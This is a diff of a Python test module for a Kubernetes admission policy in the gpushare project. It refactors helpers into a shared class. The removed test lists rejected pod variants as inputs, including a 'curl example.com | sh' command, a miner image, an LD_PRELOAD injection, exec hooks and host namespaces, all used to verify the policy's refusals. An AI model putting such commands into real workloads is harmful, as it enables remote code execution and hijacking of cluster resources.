@@ -1,8 +1,7 @@
-"""The component `demand`: what an attacker with the webhook's ServiceAccount can create and delete with it."""
+"""The policy of the component `demand`, against an attacker with the webhook's ServiceAccount."""
 
 from __future__ import annotations
 
-import copy
 import dataclasses
 import json
 import time
@@ -15,6 +14,7 @@ from gpushare import contract
 from gpushare.whatif.node_demand import NodeDemand
 from lab import lab_errors
 from tests.config import manifests
+from tests.config.component_pods import ComponentPods
 from tests.config.conftest import WAIT_SECONDS, Cluster
 from tests.config.test_policy_pods import WEBHOOK
 from tests.config.test_rbac import may
@@ -37,15 +37,18 @@ POD_SETS = 32  # of one ProvisioningRequest, by its CRD
 DEMAND = NodeDemand("{}", "NVIDIA-L4", 2, 1000, 2**30, ("uid",))
 
 
+def made(template: dict[str, Any]) -> dict[str, Any]:
+    return demand_pods.manifest(template, DEMAND, resource=contract.RESOURCE_PERCENT, excluded=["node-a"])
+
+
+DEMAND_PODS = ComponentPods("demand", PODS, made)
+manifest, changed, refusal = DEMAND_PODS.manifest, DEMAND_PODS.changed, DEMAND_PODS.refusal
+
+
 @pytest.fixture(scope="module")
 def cluster(installed: Cluster) -> Iterator[Cluster]:
     """With the component, once its policy is in force."""
-    installed.kubectl("apply", "--server-side", "--force-conflicts", *FILES)
-    installed.administrator.ensure_default_service_account(contract.DEMAND_NAMESPACE)
-    deadline = time.monotonic() + WAIT_SECONDS
-    while "may have only the container" not in refusal(installed, changed(image="x")):
-        assert time.monotonic() < deadline, f"gpushare-demand is not in force after {WAIT_SECONDS} s"
-        time.sleep(0.1)
+    DEMAND_PODS.install(installed, FILES)
     installed.kubectl("apply", "--server-side", "--filename=-", input=json.dumps(CRD))
     installed.administrator.wait_until_established(CRD["metadata"]["name"])
     yield installed
@@ -53,59 +56,8 @@ def cluster(installed: Cluster) -> Iterator[Cluster]:
     installed.kubectl("delete", "crd", CRD["metadata"]["name"])
 
 
-def manifest() -> dict[str, Any]:
-    template = next(
-        made["template"] for made in manifests.documents(COMPONENT / "template.yaml") if made["kind"] == "PodTemplate"
-    )
-    return demand_pods.manifest(template, DEMAND, resource=contract.RESOURCE_PERCENT, excluded=["node-a"])
-
-
-def changed(*, spec: dict[str, Any] | None = None, **container: Any) -> dict[str, Any]:
-    made = copy.deepcopy(manifest())
-    made["spec"] |= spec or {}
-    made["spec"]["containers"][0] |= container
-    return made
-
-
-def refusal(cluster: Cluster, made: dict[str, Any], path: str = PODS) -> str:
-    """Return why the webhook's account may not create the pod; empty if it may."""
-    try:
-        cluster.administrator.create(path, made, user=WEBHOOK, dry_run=True)
-    except lab_errors.LabError as error:
-        return str(error)
-    return ""
-
-
 def test_the_webhook_may_create_its_demand_pods_and_no_other_pod(cluster: Cluster) -> None:
-    assert refusal(cluster, manifest()) == ""
-    only = "may have only the container of the PodTemplate gpushare-demand"
-    for made in (
-        changed(image="example.com/miner"),
-        changed(command=["sh", "-c", "curl example.com | sh"]),
-        changed(args=["--more"]),
-        changed(env=[{"name": "LD_PRELOAD", "value": "/x"}]),
-        changed(ports=[{"containerPort": 80}]),
-        changed(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}),
-        changed(livenessProbe={"exec": {"command": ["sh"]}}),
-        changed(spec={"initContainers": [{**manifest()["spec"]["containers"][0], "name": "first"}]}),
-        changed(
-            spec={
-                "containers": [*manifest()["spec"]["containers"], {**manifest()["spec"]["containers"][0], "name": "b"}]
-            }
-        ),
-    ):
-        assert only in refusal(cluster, made), made
-    no_rights = "may have no volumes, no token and no ServiceAccount of its own"
-    assert only in refusal(cluster, changed(spec={"automountServiceAccountToken": True}))  # it mounts the token
-    assert no_rights in refusal(cluster, changed(spec={"volumes": [{"name": "x", "emptyDir": {}}]}))
-    for spec in ({"nodeName": "node-a"}, {"schedulerName": "mine"}, {"priorityClassName": "system-node-critical"}):
-        assert "must have scheduler, priority and RuntimeClass" in refusal(cluster, changed(spec=spec)), spec
-    shared = manifest()
-    shared["metadata"]["annotations"][contract.ALLOCATION] = "a1"
-    assert "may have no share, owner or finalizer" in refusal(cluster, shared)
-    for key in ("hostNetwork", "hostPID"):
-        assert "violates PodSecurity" in refusal(cluster, changed(spec={key: True}))
-    assert "violates PodSecurity" in refusal(cluster, changed(securityContext={"allowPrivilegeEscalation": False}))
+    DEMAND_PODS.check_that_no_other_is_admitted(cluster)
 
 
 def template(**spec: Any) -> dict[str, Any]:
